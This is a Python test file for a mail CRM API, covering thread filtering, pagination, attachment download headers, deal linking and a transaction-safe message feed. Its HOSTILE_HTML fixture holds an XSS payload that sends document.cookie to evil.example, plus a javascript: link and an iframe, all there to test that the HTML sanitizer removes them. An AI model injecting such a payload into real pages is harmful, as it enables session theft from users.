"""Mailbox: threads (filters, pagination), messages (sanitized HTML, participants), raw mail, attachments."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta

import httpx
import psycopg

from shared.db import declare_writes_no_messages
from shared.models import MessagePersonRole, Person, ThreadDealRule
from tests.api.conftest import MailStore, collect, sha256
from tests.conftest import Infra, Tenant
from tests.support.stack import Stack, make_mail, send, wait_for

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 4
PNG = b"\x89PNG\r\n\x1a\n" + b"\x01" * 64
HTML = b"<html><body><script>alert('x')</script><b>hi</b></body></html>"

HOSTILE_HTML = (
    '<p onclick="steal()">Hello <b>Jane</b></p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<a href="javascript:alert(1)">click</a>'
    '<a href="https://ok.example/page">fine link</a>'
    '<img src="https://tracker.example/pixel.gif" width="1">'
    '<img src="cid:logo@acme">'
    "<style>body { background: url(https://tracker.example/bg) }</style>"
    '<iframe src="https://evil.example"></iframe>'
)


def test_threads_filter_by_person_organization_deal_user_date_and_text(api: httpx.Client, mail: MailStore) -> None:
    organization = api.post("/v1/organizations", json={"name": "Customer", "domains": ["customer.example"]}).json()
    jane = api.post(
        "/v1/persons", json={"name": "Jane", "phone": "+1 555 0100", "organization_id": organization["id"]}
    ).json()
    bob = api.post("/v1/persons", json={"name": "Bob", "phone": "+1 555 0100"}).json()
    deal = api.post("/v1/deals", json={"title": "Rollout", "person_id": jane["id"]}).json()
    colleague = api.post("/v1/users", json={"email": f"c.{uuid.uuid4().hex[:6]}@acme.example"}).json()

    old = datetime(2026, 1, 10, tzinfo=UTC)
    with_jane = mail.thread("Proposal", deal_id=deal["id"], deal_rule=ThreadDealRule.single_open_deal)
    mail.message(
        with_jane,
        subject="Proposal",
        text="the quarterly proposal",
        persons=[(jane["id"], MessagePersonRole.from_)],
        sent_at=old,
    )
    with_bob = mail.thread("Lunch")
    mail.message(
        with_bob,
        subject="Lunch",
        text="see you",
        persons=[(bob["id"], MessagePersonRole.to)],
        user_id=uuid.UUID(colleague["id"]),
    )

    def ids(**params: object) -> set[str]:
        response = api.get("/v1/threads", params=params)
        assert response.status_code == 200, response.text
        return {t["id"] for t in response.json()["data"]}

    assert ids() == {with_jane, with_bob}
    assert ids(person_id=jane["id"]) == {with_jane}
    assert ids(organization_id=organization["id"]) == {with_jane}
    assert ids(deal_id=deal["id"]) == {with_jane}
    assert ids(has_deal="true") == {with_jane}
    assert ids(has_deal="false") == {with_bob}
    assert ids(user_id=colleague["id"]) == {with_bob}
    assert ids(until=(old + timedelta(days=1)).isoformat()) == {with_jane}
    assert ids(since=(old + timedelta(days=1)).isoformat()) == {with_bob}
    assert ids(q="QUARTERLY") == {with_jane}  # body text, case-insensitive
    assert ids(q="lunch") == {with_bob}  # subject
    assert ids(q="100%_") == set()  # LIKE wildcards are literal
    assert ids(person_id="nonsense") == set()

    [summary] = [t for t in api.get("/v1/threads").json()["data"] if t["id"] == with_jane]
    assert summary["message_count"] == 1
    assert summary["person_ids"] == [jane["id"]]
    assert summary["deal_rule"] == "single-open-deal"


def test_thread_lists_page_without_duplicates_or_gaps(api: httpx.Client, mail: MailStore) -> None:
    created = set()
    same_time = datetime(2026, 5, 5, 12, 0, tzinfo=UTC)
    for n in range(11):
        thread = mail.thread(f"Thread {n}")
        # Several threads share a timestamp: the id breaks the tie, so pages stay exact.
        mail.message(thread, subject=f"Thread {n}", sent_at=same_time if n % 2 else None)
        created.add(thread)
    listed = collect(api, "/v1/threads", limit=3)
    assert [t["id"] for t in listed if t["id"] in created] == [t["id"] for t in listed]
    assert len(listed) == len({t["id"] for t in listed}) == 11
    times = [t["last_message_at"] for t in listed]
    assert times == sorted(times, reverse=True)
    messages = collect(api, "/v1/messages", limit=4)
    assert len(messages) == len({m["id"] for m in messages}) == 11

    bad = api.get("/v1/threads", params={"cursor": "garbage!"})
    assert bad.status_code == 400
    assert bad.json()["type"] == "https://mailroom.dev/problems/invalid-cursor"
    too_big = api.get("/v1/threads", params={"limit": 1000})
    assert too_big.status_code == 422
    assert too_big.json()["errors"][0]["field"] == "query.limit"


def test_thread_with_messages_in_order_and_message_details(api: httpx.Client, mail: MailStore) -> None:
    jane = api.post("/v1/persons", json={"name": "Jane", "emails": ["jane@customer.example"]}).json()
    thread = mail.thread("Plan")
    second = mail.message(thread, subject="Re: Plan", sent_at=datetime(2026, 3, 2, tzinfo=UTC), new_text="Agreed.")
    first = mail.message(
        thread,
        subject="Plan",
        sent_at=datetime(2026, 3, 1, tzinfo=UTC),
        persons=[(jane["id"], MessagePersonRole.from_)],
        to=[{"name": "Sam", "address": mail.tenant.user_email}, {"name": None, "address": "bob@other.example"}],
    )
    body = api.get(f"/v1/threads/{thread}").json()
    assert [m["id"] for m in body["messages"]] == [first, second]
    assert body["message_count"] == 2

    message = api.get(f"/v1/messages/{first}").json()
    assert message["from"] == {"name": "Jane Doe", "address": "jane@customer.example"}
    assert message["person_ids"] == [jane["id"]]
    participants = {(p["role"], p["address"]): p["person_id"] for p in message["participants"]}
    assert participants == {
        ("from", "jane@customer.example"): jane["id"],
        ("to", mail.tenant.user_email): None,
        ("to", "bob@other.example"): None,
    }
    assert message["kind"] == "contact"
    assert api.get(f"/v1/messages/{second}").json()["new_text"] == "Agreed."


def test_html_bodies_are_sanitized(api: httpx.Client, mail: MailStore) -> None:
    thread = mail.thread("Hostile")
    message_id = mail.message(thread, html=HOSTILE_HTML)
    html = api.get(f"/v1/messages/{message_id}").json()["html_body"]
    for gone in ("<script", "onclick", "javascript:", "document.cookie", "<iframe", "<style", "tracker.example"):
        assert gone not in html, gone
    assert "<b>Jane</b>" in html
    assert 'href="https://ok.example/page"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'src="cid:logo@acme"' in html  # the message's own inline image stays

    remote = api.get(f"/v1/messages/{message_id}", params={"remote_content": "true"}).json()["html_body"]
    assert 'src="https://tracker.example/pixel.gif"' in remote
    assert "<script" not in remote
    in_thread = api.get(f"/v1/threads/{thread}").json()["messages"][0]["html_body"]
    assert "tracker.example" not in in_thread


def test_raw_eml_download(api: httpx.Client, mail: MailStore) -> None:
    raw = b"From: jane@customer.example\r\nSubject: Raw\r\nMessage-ID: <raw@x>\r\n\r\nexact bytes \xff\r\n"
    message_id = mail.message(mail.thread("Raw"), raw=raw)
    response = api.get(f"/v1/messages/{message_id}/raw")
    assert response.status_code == 200
    assert response.content == raw
    assert response.headers["content-type"] == "message/rfc822"
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"


def test_attachment_downloads_are_safe_cacheable_and_resumable(api: httpx.Client, mail: MailStore) -> None:
    message_id = mail.message(
        mail.thread("Files"),
        attachments=[
            ("Angebot ü.pdf", "application/pdf", PDF),
            ("logo.png", "image/png", PNG),
            ("x.html", "text/html", HTML),
        ],
    )
    by_name = {a["filename"]: a for a in api.get(f"/v1/messages/{message_id}").json()["attachments"]}
    pdf, png, html = by_name["Angebot ü.pdf"], by_name["logo.png"], by_name["x.html"]
    assert api.get(f"/v1/attachments/{pdf['id']}").json() == pdf

    full = api.get(f"/v1/attachments/{pdf['id']}/content")
    assert full.status_code == 200
    assert full.content == PDF
    assert full.headers["etag"] == f'"{sha256(PDF)}"'
    assert full.headers["content-type"] == "application/pdf"
    assert full.headers["x-content-type-options"] == "nosniff"
    assert full.headers["accept-ranges"] == "bytes"
    assert "sandbox" in full.headers["content-security-policy"]
    assert full.headers["content-disposition"] == (
        "attachment; filename=\"Angebot _.pdf\"; filename*=UTF-8''Angebot%20%C3%BC.pdf"
    )

    assert (
        api.get(f"/v1/attachments/{pdf['id']}/content", headers={"If-None-Match": full.headers["etag"]}).status_code
        == 304
    )
    part = api.get(f"/v1/attachments/{pdf['id']}/content", headers={"Range": "bytes=10-19"})
    assert part.status_code == 206
    assert part.content == PDF[10:20]
    assert part.headers["content-range"] == f"bytes 10-19/{len(PDF)}"
    tail = api.get(f"/v1/attachments/{pdf['id']}/content", headers={"Range": "bytes=-5"})
    assert tail.content == PDF[-5:]
    stale = api.get(f"/v1/attachments/{pdf['id']}/content", headers={"Range": "bytes=0-1", "If-Range": '"other"'})
    assert stale.status_code == 200
    beyond = api.get(f"/v1/attachments/{pdf['id']}/content", headers={"Range": f"bytes={len(PDF)}-"})
    assert beyond.status_code == 416
    assert beyond.headers["content-range"] == f"bytes */{len(PDF)}"

    # HTML is never served as HTML, and never inline, even when asked.
    page = api.get(f"/v1/attachments/{html['id']}/content", params={"inline": "true"})
    assert page.content == HTML
    assert page.headers["content-type"] == "application/octet-stream"
    assert page.headers["content-disposition"].startswith("attachment;")
    # Images may be shown inline on request.
    image = api.get(f"/v1/attachments/{png['id']}/content", params={"inline": "true"})
    assert image.headers["content-type"] == "image/png"
    assert image.headers["content-disposition"].startswith("inline;")
    assert api.get(f"/v1/attachments/{png['id']}/content").headers["content-disposition"].startswith("attachment;")


def test_files_of_person_organization_and_deal(api: httpx.Client, mail: MailStore) -> None:
    organization = api.post("/v1/organizations", json={"name": "Customer"}).json()
    jane = api.post(
        "/v1/persons", json={"name": "Jane", "phone": "+1 555 0100", "organization_id": organization["id"]}
    ).json()
    deal = api.post("/v1/deals", json={"title": "Rollout", "person_id": jane["id"]}).json()
    thread = mail.thread("Docs")
    mail.message(
        thread, persons=[(jane["id"], MessagePersonRole.from_)], attachments=[("a.pdf", "application/pdf", PDF)]
    )
    mail.message(mail.thread("Other"), attachments=[("b.pdf", "application/pdf", PDF)])

    person_files = api.get(f"/v1/persons/{jane['id']}/files").json()["data"]
    assert [f["filename"] for f in person_files] == ["a.pdf"]
    assert person_files[0]["thread_id"] == thread
    assert person_files[0]["from"]["address"] == "jane@customer.example"
    assert [f["filename"] for f in api.get(f"/v1/organizations/{organization['id']}/files").json()["data"]] == ["a.pdf"]
    # The deal has no files until its thread is linked; then they appear at once.
    assert api.get(f"/v1/deals/{deal['id']}/files").json()["data"] == []
    assert api.patch(f"/v1/threads/{thread}", json={"deal_id": deal["id"]}).json()["deal_rule"] == "user-choice"
    assert [f["filename"] for f in api.get(f"/v1/deals/{deal['id']}/files").json()["data"]] == ["a.pdf"]


def test_thread_deal_can_be_set_and_cleared(api: httpx.Client, mail: MailStore, stranger_api: httpx.Client) -> None:
    jane = api.post("/v1/persons", json={"name": "Jane", "phone": "+1 555 0100"}).json()
    deal = api.post("/v1/deals", json={"title": "Rollout", "person_id": jane["id"]}).json()
    thread = mail.thread("Which deal?")
    mail.message(thread)
    linked = api.patch(f"/v1/threads/{thread}", json={"deal_id": deal["id"]}).json()
    assert (linked["deal_id"], linked["deal_rule"]) == (deal["id"], "user-choice")
    cleared = api.patch(f"/v1/threads/{thread}", json={"deal_id": None}).json()
    assert (cleared["deal_id"], cleared["deal_rule"]) == (None, "user-declined")
    foreign_deal = stranger_api.post(
        "/v1/deals",
        json={
            "title": "Theirs",
            "person_id": stranger_api.post("/v1/persons", json={"name": "X", "phone": "+1 555 0100"}).json()["id"],
        },
    ).json()
    refused = api.patch(f"/v1/threads/{thread}", json={"deal_id": foreign_deal["id"]})
    assert refused.status_code == 422
    assert refused.json()["errors"] == [{"field": "deal_id", "message": "no such deal in this account"}]
    assert api.patch(f"/v1/threads/{thread}", json={"visibility": "secret"}).status_code == 422
    assert api.patch(f"/v1/threads/{thread}", json={"unknown": 1}).status_code == 422


def test_mail_sent_over_smtp_shows_in_the_mailbox(api_stack: Stack, tenant: Tenant, api: httpx.Client) -> None:
    mail = make_mail(
        sender=f"Sam Seller <{tenant.user_email}>",
        to=["Lee <lee@client.example>"],
        subject="Quote over SMTP",
        body="Hello Lee",
        message_id=f"<{uuid.uuid4().hex}@acme.example>",
        attachments=[("quote.pdf", "application/pdf", PDF)],
    )
    send(api_stack.smtp_port, [tenant.bcc_address], mail, sender=tenant.user_email)

    def listed() -> list[dict[str, object]] | None:
        data: list[dict[str, object]] = api.get("/v1/threads", params={"q": "Quote over SMTP"}).json()["data"]
        return data or None

    [thread] = wait_for(listed, what="the thread in the API")
    [message] = api.get(f"/v1/threads/{thread['id']}").json()["messages"]
    assert message["direction"] == "outbound"
    [attachment] = message["attachments"]
    assert api.get(f"/v1/attachments/{attachment['id']}/content").content == PDF
    raw = api.get(f"/v1/messages/{message['id']}/raw").content
    assert b"Subject: Quote over SMTP" in raw


def _feed(http: httpx.Client, cursor: str | None, limit: int = 50) -> tuple[list[str], str, bool]:
    response = http.get("/v1/messages/feed", params={"limit": limit, **({"cursor": cursor} if cursor else {})})
    assert response.status_code == 200, response.text
    page = response.json()
    return [m["id"] for m in page["data"]], page["next_cursor"], page["has_more"]


def test_message_feed_gives_each_message_once_even_when_it_commits_late(
    api: httpx.Client, stranger_api: httpx.Client, mail: MailStore
) -> None:
    thread = mail.thread("Feed")
    first = mail.message(thread, subject="First")
    # (Any transaction of this database that may store mail, other tests' too, holds the feed back while it runs.)
    seen, cursor, _ = wait_for(lambda: (page := _feed(api, None))[0] and page, timeout=30, what="the first message")
    assert seen == [first]

    # A slow transaction stores a message, then a quicker one stores another and commits first.
    with mail.sessions() as slow, slow.begin():
        late = mail.message(thread, subject="Late", session=slow)
        quick = mail.message(thread, subject="Quick")
        # Newest first, the list already shows the quick message on top; the feed holds it back, because the
        # slow transaction could still add a message before it.
        assert api.get("/v1/messages", params={"limit": 1}).json()["data"][0]["id"] == quick
        assert _feed(api, cursor)[0] == []
    # Once the slow one commits, both arrive, in the order their transactions began; and only once.
    arrived: list[str] = []

    def both_arrived() -> bool:
        nonlocal cursor
        ids, cursor, _ = _feed(api, cursor)
        arrived.extend(ids)
        return len(arrived) >= 2

    wait_for(both_arrived, timeout=30, what="the held-back messages in the feed")
    assert arrived == [late, quick]
    assert _feed(api, cursor) == ([], cursor, False)

    # Pages: `has_more` says read on; the whole walk is every message once, oldest first.
    more = [mail.message(thread, subject=f"More {n}") for n in range(3)]
    wait_for(lambda: len(_feed(api, cursor)[0]) == len(more), timeout=30, what="the newest messages in the feed")
    walked, position, full = _feed(api, None, limit=2)
    assert full
    while full:
        ids, position, full = _feed(api, position, limit=2)
        walked.extend(ids)
    assert walked == [first, late, quick, *more]
    # Another account's feed has none of it; a cursor that is not one is a problem, not a crash.
    assert not set(_feed(stranger_api, None)[0]) & set(walked)
    bad = api.get("/v1/messages/feed", params={"cursor": "garbage!"})
    assert bad.status_code == 400
    assert bad.json()["type"] == "https://mailroom.dev/problems/invalid-cursor"


def test_message_feed_waits_only_for_transactions_that_may_store_mail(
    api: httpx.Client, api_infra: Infra, mail: MailStore
) -> None:
    """Transaction ids are the whole server's: another database's transaction, or an import here (which says it
    stores no mail), once held every account's feed back for as long as it ran."""
    thread = mail.thread("Feed while others run")
    cursor = _feed(api, None)[1]  # a new account: nothing in its feed yet

    with (
        psycopg.connect(api_infra.admin_url, autocommit=False) as elsewhere,
        mail.sessions() as importing,
        importing.begin(),
        mail.sessions() as storing,
        storing.begin(),
    ):
        elsewhere.execute("SELECT pg_current_xact_id()")  # another database of the server, its transaction open
        declare_writes_no_messages(importing)
        importing.add(Person(account_id=mail.tenant.account_id, name="Imported"))
        importing.flush()
        during = mail.message(thread, subject="During the import")
        ids, cursor, _ = wait_for(lambda: (page := _feed(api, cursor))[0] and page, what="mail during an import")
        assert ids == [during]

        # A transaction that has not said so may still store mail: the feed waits for it.
        late = mail.message(thread, subject="Late", session=storing)
        after = mail.message(thread, subject="After")
        assert _feed(api, cursor)[0] == []
    wait_for(lambda: _feed(api, cursor)[0] == [late, after], timeout=30, what="the held-back messages")
